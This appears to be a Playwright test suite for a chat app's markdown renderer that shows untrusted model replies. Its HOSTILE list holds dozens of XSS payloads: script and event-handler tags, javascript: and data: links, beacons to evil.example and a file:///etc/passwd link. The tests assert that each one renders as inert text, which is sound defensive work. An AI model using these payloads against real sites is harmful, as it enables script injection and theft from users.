"""Markdown from a model that is not trusted: what it becomes, whole or grown, and what never."""

import random
import re
from typing import Any

import pytest

pytestmark = pytest.mark.slow

WHOLE = """async ([text]) => {
    const { markdown } = await import("/static/markdown.js");
    const host = document.createElement("div");
    host.append(...markdown(text));
    return host.innerHTML;
}"""
GROWN = """async ([text, cuts]) => {
    const { Growing } = await import("/static/markdown.js");
    const host = document.createElement("div");
    const growing = new Growing(host);
    let from = 0;
    for (const to of [...cuts, text.length]) {
        growing.push(text.slice(from, to));
        growing.draw();
        from = to;
    }
    return host.innerHTML;
}"""
CODE = (
    '<figure class="code" dir="ltr"><figcaption><span class="language">{}</span><button '
    'type="button" data-act="copy-code" aria-label="Copy this code">Copy</button></figcaption>'
    '<pre tabindex="0" role="group" aria-label="Code"><code>{}</code></pre></figure>'
)
A = '<a href="{0}" target="_blank" rel="noopener noreferrer nofollow">{0}</a>'
SPELLED = {
    "a\nb\n\nc": "<p>a<br>b</p><p>c</p>",
    "**b** *i* __b__ _i_ ~~d~~": "<p><strong>b</strong> <em>i</em> <strong>b</strong> <em>i</em>"
    " <del>d</del></p>",
    "***both*** **a *b* c**": "<p><strong><em>both</em></strong>"
    " <strong>a <em>b</em> c</strong></p>",
    "2 * 3 * 4, snake_case_name, **open": "<p>2 * 3 * 4, snake_case_name, **open</p>",
    r"\*not\* `a * b` ``x ` y``": "<p>*not* <code>a * b</code> <code>x ` y</code></p>",
    "# One\n## Two #\n####### no": "<h3>One</h3><h4>Two</h4><p>####### no</p>",
    "- a\n- b\n  - c\n\n  d\n- e": "<ul><li><p>a</p></li><li><p>b</p><ul><li><p>c</p></li></ul>"
    "<p>d</p></li><li><p>e</p></li></ul>",
    "3. a\n4. b\n\n- c": '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'
    "<ul><li><p>c</p></li></ul>",
    "The year\n1999. It was": "<p>The year<br>1999. It was</p>",
    "> a\n> > b\n\nc": "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote><p>c</p>",
    "---\n***": "<hr><hr>",
    "```py\nx < 1\n\n# y\n```\nz": CODE.format("py", "x &lt; 1\n\n# y") + "<p>z</p>",
    "~~~\nnever closed": CODE.format("", "never closed"),
    "|a|b|\n|-|-:|\n|1|2|3|\n\nz": '<div class="scroll" tabindex="0" role="group" '
    'aria-label="Table"><table><thead><tr>'
    '<th class="">a</th><th class="end">b</th></tr></thead><tbody><tr><td class="">1</td>'
    '<td class="end">2</td></tr></tbody></table></div><p>z</p>',
    "<b>raw</b> &amp; <!-- x -->": "<p>&lt;b&gt;raw&lt;/b&gt; &amp;amp; &lt;!-- x --&gt;</p>",
    "see https://a.example/x_y_(z). Ok": f"<p>see {A.format('https://a.example/x_y_(z)')}. Ok</p>",
    "[t](http://a.example/) ![p](https://b.example/i.png)": f"<p>t ({A.format('http://a.example/')})"
    f" p ({A.format('https://b.example/i.png')})</p>",
    "[t](javascript:go()) [u](/etc) [v](data:text/html,x)": "<p>[t](javascript:go()) [u](/etc)"
    " [v](data:text/html,x)</p>",
    "https://bank.example@evil.example/": "<p>https://bank.example@evil.example/</p>",
    "[bank](https://\u0430pple.example/)": "<p>bank ("
    + A.format("https://xn--pple-43d.example/")
    + ")</p>",
}
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/beacon.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x autoplay>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea><script>alert(1)</script>",
    "</code></pre><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><img/src=x/onerror=alert(1)>)",
    "![x](https://evil.example/beacon.png)",
    "![x](javascript:alert(1))",
    "![](https://evil.example/a 'onerror=alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    'https://a.example/"onclick="alert(1)',
    "```html\n</code></pre><img src=x onerror=alert(1)>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <img src=x onerror=alert(1)>",
    "- <svg onload=alert(1)>\n> <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|<script>alert(1)</script>|x|",
    "`<img src=x onerror=alert(1)>`",
    "**<img src=x onerror=alert(1)>**",
    "\u202egnp.exe\u202c <script\u2028>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]
# What an element of a reply may be, and which attributes it may have.
TAGS = re.compile(
    "p|br|strong|em|del|code|h[3-6]|hr|blockquote|ul|ol|li|a|figure|figcaption|span|button|pre|div"
    "|table|thead|tbody|tr|th|td"
)
ATTRIBUTES = re.compile("href|target|rel|class|dir|type|data-act|role|aria-label|tabindex|start")
INVENTORY = """() => [...document.querySelectorAll('.said *')].map(node => [
    node.localName, node.getAttributeNames(), node.getAttribute('href')])"""
ALPHABET = [
    *"ab*_`~[]()>#-+1.|:\\ \n",
    "\n",
    "\n\n",
    "**",
    "```",
    "- ",
    "1. ",
    "> ",
    "  ",
    "|a|b|\n|-|-|\n",
    "https://a.example/",
    "[x](https://a.example)",
]


def test_markdown_becomes_these_elements(page: Any) -> None:
    assert {text: page.evaluate(WHOLE, [text]) for text in SPELLED} == SPELLED


def test_a_text_that_grew_in_any_pieces_equals_the_whole(page: Any) -> None:
    draw = random.Random(5)
    texts = [*SPELLED, "\n\n".join(SPELLED)]
    texts += ["".join(draw.choices(ALPHABET, k=draw.randint(1, 60))) for _ in range(400)]
    for text in texts:
        cuts = sorted(draw.choices(range(len(text)), k=min(len(text), 25)))
        whole = page.evaluate(WHOLE, [text])
        assert page.evaluate(GROWN, [text, cuts]) == whole, text


def test_no_hostile_text_becomes_more_than_text(page: Any, server: Any) -> None:
    for text in HOSTILE:
        server.says(*text)
        page.fill("#message", text.replace("\x00", ""))
        page.press("#message", "Enter")
        page.wait_for_selector("#stop", state="hidden")
    page.reload()
    page.wait_for_selector(f"article:nth-child({2 * len(HOSTILE)})")
    for tag, attributes, address in page.evaluate(INVENTORY):
        assert TAGS.fullmatch(tag)
        assert all(map(ATTRIBUTES.fullmatch, attributes))
        assert address is None or address.startswith(("https://", "http://"))
    assert page.locator("script").count() == 1
    shown = page.locator(".user .said").all_inner_texts()
    assert shown[0] == HOSTILE[0]
    assert page.locator("h1").inner_text().startswith("<script>")


@pytest.mark.parametrize(
    "unit",
    ["*a ", "**a *b ", "[", "[a](", "`", "` `` ", "> ", "- ", "_a_", "~~", "|", "https://a", "\\"],
)
def test_the_walk_is_linear_in_a_text_made_to_be_slow(page: Any, unit: str) -> None:
    script = """async ([unit]) => {
        const { markdown } = await import("/static/markdown.js");
        const began = performance.now();
        markdown(unit.repeat(100_000 / unit.length));
        return performance.now() - began;
    }"""
    assert page.evaluate(script, [unit]) < 3000


def test_a_long_reply_costs_a_drawing_of_its_last_block_only(page: Any) -> None:
    script = """async () => {
        const { Growing } = await import("/static/markdown.js");
        const host = document.createElement("div");
        const growing = new Growing(host);
        let made = 0;
        const create = document.createElement.bind(document);
        document.createElement = (tag) => { made += 1; return create(tag); };
        for (let at = 0; at < 500; at += 1) {
            for (const piece of ["one ", "two\\n", "\\n"]) { growing.push(piece); growing.draw(); }
        }
        return [made, host.children.length];
    }"""
    made, shown = page.evaluate(script)
    assert shown == 500
    assert made < 5 * 500 * 3
